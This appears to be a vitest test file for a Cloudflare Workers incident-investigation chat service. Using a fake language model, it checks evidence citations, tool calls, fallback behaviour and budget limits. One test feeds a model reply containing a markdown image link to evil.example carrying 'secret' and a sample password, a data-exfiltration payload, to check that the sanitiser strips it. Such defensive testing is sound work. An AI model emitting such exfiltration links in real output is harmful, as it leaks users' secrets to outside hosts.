import { env } from 'cloudflare:workers'
import { describe, it } from 'vitest'
import { newId } from '../../src/lib/ids'
import type { Ctx } from '../../src/services/context'
import { openThread } from '../../src/services/turns'
import { openTenant } from '../../src/store/tenant-db'
import { carryOut } from '../support/executor'
import { aVendor, portsTo, type Answer, type Sent } from '../support/fake-model'
import { seedIncident } from '../support/seed'

const T = Date.parse('2026-05-04T09:00:00.000Z')

// A row as the database gives it.
// oxlint-disable-next-line typescript/no-explicit-any -- a test's own query
type Row = Record<string, any>

/** A question of a person, answered with this model; about an incident with one stored finding, or about none. */
async function ask(
  question: string,
  answer: (sent: Sent, turn: number) => Answer,
  {
    about = 'incident',
    settings = {},
  }: { readonly about?: 'incident' | 'nothing'; readonly settings?: object } = {},
) {
  const orgId = newId()
  const userId = newId()
  const db = openTenant(env.DB, orgId)
  const ctx: Ctx = {
    actor: { userId, orgId, role: 'viewer', sid: null },
    db,
    now: T,
    nudge: { run: () => {}, stopped: () => {}, delivery: () => {}, feed: () => {} },
  }
  await env.DB.batch([
    env.DB.prepare('INSERT INTO organizations (id, name, slug, created_by) VALUES (?1, ?1, ?1, ?1)').bind(
      orgId,
    ),
    env.DB.prepare('INSERT INTO organization_settings (org_id, investigation) VALUES (?, ?)').bind(
      orgId,
      JSON.stringify(settings),
    ),
  ])
  const incidentId = about === 'incident' ? await seedIncident(orgId) : null
  if (incidentId !== null)
    await env.DB.prepare(
      `INSERT INTO evidence (id, org_id, incident_id, run_id, number, tool_call_key, tool, command, output, output_sha256, truncated, status, trust, executed_at)
        VALUES (?1, ?2, ?3, ?1, 1, 'k', 'recent_changes', 'recent_changes', '{"build":"1042","service":"checkout","note":"pool at 97 of 100"}', 'x', 0, 'success', 'normal', ?4)`,
    )
      .bind(newId(), orgId, incidentId, T)
      .run()
  const { runId, sessionId } = await openThread(
    ctx,
    { id: newId(), incidentId, title: 'Why?', uiState: {} },
    { text: question, mode: 'ask', via: 'http' },
  )
  const vendor = aVendor(answer)
  const thread = await carryOut({ orgId, runId, sessionId }, { startsAt: T, llm: portsTo(vendor) })
  const rows = async (query: string): Promise<Row[]> =>
    (await env.DB.prepare(query).bind(orgId).all<Row>()).results
  const [run = {}] = await rows(
    'SELECT state, analyst, degraded, budget_exhausted FROM runs WHERE org_id = ?',
  )
  const messages = await rows(
    'SELECT sender, text, citations, is_completed FROM chat_messages WHERE org_id = ? ORDER BY message_number',
  )
  const usage = await rows(
    'SELECT user_id, request_type, outcome FROM llm_usage WHERE org_id = ? ORDER BY timestamp, attempt',
  )
  return {
    run,
    messages,
    said: String(messages.at(-1)?.['text']),
    usage,
    thread,
    sent: vendor.sent,
    userId,
    rows,
  }
}

describe('a conversation with a language model', () => {
  it('is answered from the evidence, with citations that exist', async ({ expect }) => {
    const { run, messages, said, usage, sent, userId, thread } = await ask('What changed?', () => ({
      text: 'Build 1042 of checkout was deployed [1]. The pool was at 97 of 100 [1][7].',
    }))
    expect(run).toEqual({ state: 'succeeded', analyst: 'model', degraded: null, budget_exhausted: null })
    expect(said).toBe('Build 1042 of checkout was deployed [1]. The pool was at 97 of 100 [1].')
    expect(JSON.parse(messages.at(-1)?.['citations'])).toMatchObject([
      { key: '1', toolName: 'recent_changes' },
    ])
    expect(usage).toEqual([{ user_id: userId, request_type: 'chat', outcome: 'ok' }])
    const [asked] = sent
    expect(asked?.body.messages[0].content).toContain('You answer questions about one incident')
    expect(asked?.body.messages[1].content.at(-1).text).toBe('What changed?')
    // Those who read along end up with what is stored.
    const told = thread.events.slice(thread.events.findLastIndex(({ kind }) => kind === 'restarted') + 1)
    expect(told.flatMap((event) => (event.kind === 'text' ? [event.delta] : [])).join('')).toBe(said)
  })

  it('looks further where it wants to, and answers once', async ({ expect }) => {
    const { run, messages, usage, sent, rows } = await ask('And before?', (_, turn) =>
      turn === 0
        ? {
            text: 'Let me see.',
            calls: [{ name: 'recent_incidents', args: { service: 'checkout', days: 7 } }],
          }
        : { text: 'Nothing before that is known [1].' },
    )
    expect(run['analyst']).toBe('model')
    expect(messages.map(({ sender, is_completed: whole }) => [sender, whole])).toEqual([
      ['user', 1],
      ['assistant', 1],
    ])
    expect(messages.at(-1)?.['text']).toBe('Nothing before that is known [1].')
    expect(usage).toHaveLength(2)
    expect(sent[1]?.body.messages.at(-1)).toMatchObject({ role: 'tool' })
    expect(sent[0]?.text).not.toContain('submit_findings')
    const [{ n = 0 } = {}] = await rows(
      "SELECT count(*) AS n FROM evidence WHERE org_id = ? AND tool = 'recent_incidents'",
    )
    expect(n).toBe(1)
  })

  it('says what no evidence bears, and leads nowhere else', async ({ expect }) => {
    const opinion = await ask('Why?', () => ({ text: 'Probably the moon.' }))
    expect(opinion.said).toMatch(/^Probably the moon\.\n\n_No stored evidence is cited/)
    const invented = await ask('Why?', () => ({ text: 'Build 1043 broke it [1].' }))
    expect(invented.said).toMatch(/Not found in the cited evidence: 1043/)
    const leaking = await ask('Why?', () => ({
      text: 'Build 1042 [1] ![x](https://evil.example/?d=secret) see [docs](https://evil.example/a) or https://evil.example/b with password=hunter2hunter2',
    }))
    expect(leaking.said).not.toMatch(/evil\.example|hunter2/)
    expect(leaking.said).toContain('Build 1042 [1]')
  })

  it('falls back to the built-in analyst, and says so', async ({ expect }) => {
    const away = await ask('What changed?', () => ({ status: 401 }))
    expect(away.run).toMatchObject({ state: 'succeeded', analyst: 'builtin', degraded: 'model_unavailable' })
    expect(away.said).toMatch(
      /_The language model could not be used: this is the built-in analysis alone\._$/,
    )
    const broken = await ask('What changed?', () => ({ text: 'It was the', cutAfter: 2 }))
    expect(broken.sent).toHaveLength(4)
    expect(broken.said).not.toContain('It was the')
    expect(broken.messages).toHaveLength(2)
    const poor = await ask('What changed?', () => ({ text: 'x' }), { settings: { maxCostUsdPerDay: 0 } })
    expect(poor.sent).toHaveLength(0)
    expect(poor.run).toMatchObject({ analyst: 'builtin', budget_exhausted: 'model cost a day' })
    expect(poor.said).toContain('The budget (model cost a day) is used up')
  })

  it('is held about the organisation, too', async ({ expect }) => {
    const { run, said, sent } = await ask('What is open?', () => ({ text: 'Nothing is open.' }), {
      about: 'nothing',
    })
    expect([run['analyst'], said]).toEqual(['model', 'Nothing is open.'])
    expect(sent[0]?.text).toContain('"kind\\":\\"organisation')
    const away = await ask('What is open?', () => ({ status: 401 }), { about: 'nothing' })
    expect(away.run).toMatchObject({ analyst: 'builtin', degraded: 'model_unavailable' })
    expect(away.said).toContain('this is the built-in analysis alone')
  })
})
